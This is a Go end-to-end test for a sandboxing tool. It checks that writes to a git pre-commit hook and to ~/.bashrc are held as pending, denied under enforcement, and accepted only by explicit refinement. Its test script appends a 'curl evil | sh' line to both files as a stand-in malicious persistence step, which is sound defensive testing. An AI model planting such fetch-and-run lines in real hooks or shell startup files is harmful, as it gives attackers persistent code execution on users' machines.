package e2e

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/policy"
	"github.com/sysprof/sysprof/report"
)

// TestLearnBlessesNothingCritical (issue 23 item 4): a learn run that writes a git hook and
// ~/.bashrc writes both pending; enforce denies them until refine --only accepts one; show
// and diff say pending; learn --accept-risky accepts and says what.
func TestLearnBlessesNothingCritical(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTools(t, hostPath, "sh")
	b := cliBox(t)
	hook := filepath.Join(b.Work, ".git", "hooks", "pre-commit")
	testutil.WriteFile(t, filepath.Join(b.Work, ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
	testutil.WriteFile(t, hook, "exit 0\n", 0o755)
	testutil.WriteFile(t, filepath.Join(b.Home, ".bashrc"), "# rc\n", 0o644)
	testutil.WriteFile(t, filepath.Join(b.Work, "out", "app"), "", 0o644)
	script := `echo built >> out/app; echo 'curl evil | sh' >> .git/hooks/pre-commit; echo 'curl evil | sh' >> "$HOME/.bashrc"; true`
	p := filepath.Join(b.Home, "tool.yaml")
	r := b.Sysprof(t, "learn", "-p", p, "--", "sh", "-c", script)
	testutil.MustCode(t, "learn", r, 0)
	if !strings.Contains(r.Stderr, "written PENDING") {
		t.Errorf("learn does not say what it wrote pending:\n%s", r.Stderr)
	}
	prof := loadProfile(t, p)
	pending := func(prof *policy.Profile) []string {
		var out []string
		for _, c := range policy.Pending(prof) {
			out = append(out, c.Item)
		}
		return out
	}
	git := func(s string) bool { return strings.HasPrefix(s, "$WORKDIR/.git") } // the hook or its directory
	if got := pending(prof); !slices.ContainsFunc(got, git) || !slices.Contains(got, "$HOME/.bashrc") || len(got) != 2 {
		t.Fatalf("pending %q, want the hook (or its directory) and .bashrc only", got)
	}
	r = b.Sysprof(t, "show", "-p", p)
	if !strings.Contains(r.Stdout, "pending   2") || !strings.Contains(r.Stdout, "filesystem.write: $HOME/.bashrc") {
		t.Errorf("show does not list the pending items:\n%s", r.Stdout)
	}

	// drift of the same command: what the profile holds pending is no drift.
	r = b.Sysprof(t, "drift", "-p", p, "--", "sh", "-c", script)
	if r.Code != 0 || strings.Contains(r.Stderr, "was pending") {
		t.Errorf("drift of the learned command: exit %d, want 0 (pending items are not drift)\n%s", r.Code, r)
	}

	// enforce: both denied (the files keep their content), reported; the benign write works.
	for _, f := range []string{hook, filepath.Join(b.Home, ".bashrc")} {
		os.WriteFile(f, []byte("clean\n"), 0o644)
	}
	rep := filepath.Join(b.Home, "report.json")
	r = b.Sysprof(t, "enforce", "-p", p, "--report", rep, "--", "sh", "-c", script)
	for _, f := range []string{hook, filepath.Join(b.Home, ".bashrc")} {
		if got, _ := os.ReadFile(f); string(got) != "clean\n" {
			t.Errorf("enforce let a pending write through: %s = %q\n%s", f, got, r)
		}
	}
	if got, _ := os.ReadFile(filepath.Join(b.Work, "out", "app")); !strings.Contains(string(got), "built") {
		t.Errorf("the benign write did not happen:\n%s", r)
	}
	// On the record either as a denial (the work tree bound read-only) or as a held change of
	// the run's changeset (the work tree staged for its output directory out/): refine takes
	// both.
	rp := testutil.ReadReport(t, rep)
	held := rp.Changes != nil && slices.ContainsFunc(rp.Changes.Held, func(c report.Change) bool { return c.Path == hook && c.Class == "dangerous" })
	if !held && !slices.ContainsFunc(rp.Denials, func(d report.Denial) bool { return d.Path == hook }) {
		t.Errorf("the hook write is not reported:\n%s", r)
	}

	// refine --only accepts the hook: no longer pending, and enforce lets it through.
	r = b.Sysprof(t, "refine", "-p", p, "--from", rep, "--workdir", b.Work, "--only", "$WORKDIR/.git/hooks/pre-commit")
	testutil.MustCode(t, "refine --only", r, 0)
	after := loadProfile(t, p)
	if got := pending(after); !slices.Contains(got, "$HOME/.bashrc") {
		t.Errorf("after refine --only the hook: pending %q, want .bashrc still pending\n%s", got, r)
	}
	if !slices.ContainsFunc(after.Filesystem.Write, func(w policy.PathRule) bool { return git(w.Path) && !w.Pending }) {
		t.Errorf("refine --only the hook accepted nothing: %+v\n%s", after.Filesystem.Write, r)
	}
	r = b.Sysprof(t, "enforce", "-p", p, "--", "sh", "-c", script)
	if got, _ := os.ReadFile(hook); !strings.Contains(string(got), "curl evil") {
		t.Errorf("the accepted hook write was denied:\n%s", r)
	}

	// --accept-risky: nothing pending, and learn says what it accepted.
	p2 := filepath.Join(b.Home, "scripted.yaml")
	r = b.Sysprof(t, "learn", "--accept-risky", "-p", p2, "--", "sh", "-c", script)
	testutil.MustCode(t, "learn --accept-risky", r, 0)
	if got := pending(loadProfile(t, p2)); len(got) > 0 || !strings.Contains(r.Stderr, "--accept-risky: accepted") || !strings.Contains(r.Stderr, "$HOME/.bashrc") {
		t.Errorf("learn --accept-risky: pending %q\n%s", got, r.Stderr)
	}
}
